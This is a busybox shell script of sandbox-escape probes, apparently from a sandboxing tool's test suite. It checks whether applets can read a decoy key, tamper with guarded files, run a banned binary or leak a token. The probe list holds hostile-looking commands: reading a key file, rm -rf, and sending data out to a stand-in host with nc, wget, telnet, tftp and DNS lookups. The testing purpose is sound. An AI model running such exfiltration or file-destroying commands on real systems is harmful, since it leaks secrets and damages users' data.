# Escapes by busybox, a static program: probes.sh list | run, inside `busybox sh`; the protocol is
# tests/escapes/escape.c's.  Applets are started by name, through the shell's own /proc/self/exe.

B="busybox"
T='
bb_cat 2 SL KEY            $B cat "$ESCAPE_KEY" | $B grep -q decoy-7c1f
bb_redirect 2 SL KEY       $B grep -q decoy-7c1f <"$ESCAPE_KEY"
bb_head 2 SL KEY           $B head -c 99 "$ESCAPE_KEY" | $B grep -q decoy-7c1f
bb_dd 2 SL KEY             $B dd if="$ESCAPE_KEY" 2>/dev/null | $B grep -q decoy-7c1f
bb_cp 2 SL KEY             $B cp "$ESCAPE_KEY" mine && $B grep -q decoy-7c1f mine
bb_tar 2 SL KEY            $B tar -cf - "$ESCAPE_KEY" 2>/dev/null | $B grep -q decoy-7c1f
bb_link 23 SL KEY          $B ln "$ESCAPE_KEY" mine && $B grep -q decoy-7c1f mine
bb_symlink 22 SL KEY       $B ln -s "$ESCAPE_KEY" mine && $B grep -q decoy-7c1f mine
bb_ls 2 SL KEY             $B ls "$($B dirname "$ESCAPE_KEY")" | $B grep -q id_rsa
bb_find 2 SL KEY           $B find "$($B dirname "$ESCAPE_KEY")" -type f | $B grep -q id_rsa
bb_echo 2 SL WRITE         echo x >>"$O/file"
bb_create 2 SL WRITE       : >"$O/new"
bb_mkdir 2 SL WRITE        $B mkdir "$O/new"
bb_cp_out 2 SL WRITE       $B cp locked/file "$O/new"
bb_cp_over 2 SL WRITE      $B cp locked/file "$O/file"
bb_ln_out 2 SL WRITE       $B ln -s x "$O/new"
bb_mkfifo 2 SL WRITE       $B mkfifo "$O/new"
bb_truncate 24 SL WRITE    $B truncate -s 0 "$O/file"
bb_sed 2 SL WRITE          $B sed -i s/precious/x/ "$O/file"
bb_tee 2 SL WRITE          echo x | $B tee "$O/file" >/dev/null
bb_rm 22 SL REMOVE         $B rm "$O/file"
bb_rm_rf 22 SL REMOVE      $B rm -rf "$O/sub"
bb_rmdir 22 SL REMOVE      $B rmdir "$O/dir"
bb_mv 22 SL REMOVE         $B mv "$O/file" "$O/other"
bb_mv_in 22 SL REMOVE      $B mv "$O/file" mine
bb_find_rm 22 SL REMOVE    $B find "$O/sub" -type f -exec $B rm {} ";"; [ ! -e "$O/sub/inner" ]
bb_chmod 25 S ATTRS        $B chmod 777 "$O/file"
bb_chmod_r 25 S ATTRS      $B chmod -R a+w "$O/sub"
bb_touch 25 S ATTRS        $B touch "$O/file"
bb_chown 25 S ATTRS        $B chown "$($B id -u)" "$O/file"
bb_locked 51 S FINE        echo x >locked/file
bb_hidden 51 S FINE        $B grep -q decoy-7c1f hidden/file
bb_kept 51 S FINE          $B rm kept/file
bb_banned 6 S EXEC         "$ESCAPE_OTHER/escbanned" ran
bb_banned_env 6 S EXEC     $B env "$ESCAPE_OTHER/escbanned" ran
bb_banned_xargs 6 S EXEC   echo ran | $B xargs "$ESCAPE_OTHER/escbanned"
bb_banned_find 6 S EXEC    $B find locked -maxdepth 0 -exec "$ESCAPE_OTHER/escbanned" ran ";" && [ -e ran ]
bb_nc 43 S NET             echo "$N" | $B nc -w 1 127.0.0.1 "$ESCAPE_PORT"
bb_nc_stranger 43 S NET    E; echo "$N" | $B nc -w 1 $EVIL "$ESCAPE_PORT"; false
bb_nc_decimal 61 S NET     E; echo "$N" | $B nc -w 1 757145666 "$ESCAPE_PORT"; false
bb_nc_name 43 S NET        E; echo "$N" | $B nc -w 1 hosts.leak.example "$ESCAPE_PORT"; false
bb_wget 43 S NET           E; $B timeout 1 $B wget -q -O x "http://$EVIL:$ESCAPE_PORT/$N"; false
bb_wget_name 43 S NET      E; $B timeout 1 $B wget -q -O x "http://hosts.leak.example:$ESCAPE_PORT/$N"; false
bb_telnet 43 S NET         E; echo "$N" | $B timeout 1 $B telnet $EVIL "$ESCAPE_PORT"; false
bb_tftp 59 S NET           E; $B timeout 1 $B tftp -g -r "$N" -l x $EVIL "$ESCAPE_PORT"; false
bb_nslookup 56 S NAMES     E; $B timeout 1 $B nslookup "$N.leak.example"; false
bb_nslookup_txt 56 S NAMES E; $B timeout 1 $B nslookup -type=txt "$N.leak.example"; false
bb_nslookup_of 56 S NAMES  E; $B timeout 1 $B nslookup "$N.leak.example" $EVIL; false
bb_kill 13 LF PALE         kill -URG "$V"
bb_renice 14 F PALE        $B renice -n 0 -p "$V"
'

list() {
	echo "$T" | while read -r name rows rings promise _; do
		[ -z "$name" ] || echo "$name $rows $rings $promise"
	done
}

# Where somebody has all addresses (netprobe.sh); what came of it that one knows.
EVIL=45.33.32.66
E() {
	[ -n "$ESCAPE_NET" ] || exit 2
}

# Whoever started us: inside a session the supervisor.
V=${PALE_SESSION_DIR:+$PPID}
V=${V:-$ESCAPE_PID}

run() {
	echo "$T" | while read -r N rows rings promise line; do
		[ -n "$N" ] || continue
		O=$ESCAPE_OUT/$N
		(cd "$N" && eval "$line") >/dev/null 2>&1 </dev/null
		case $?:$line in
		0:*) echo "$N worked" ;;
		2:E\;*) echo "$N absent" ;;
		*) echo "$N stopped" ;;
		esac
	done
}

"$1"
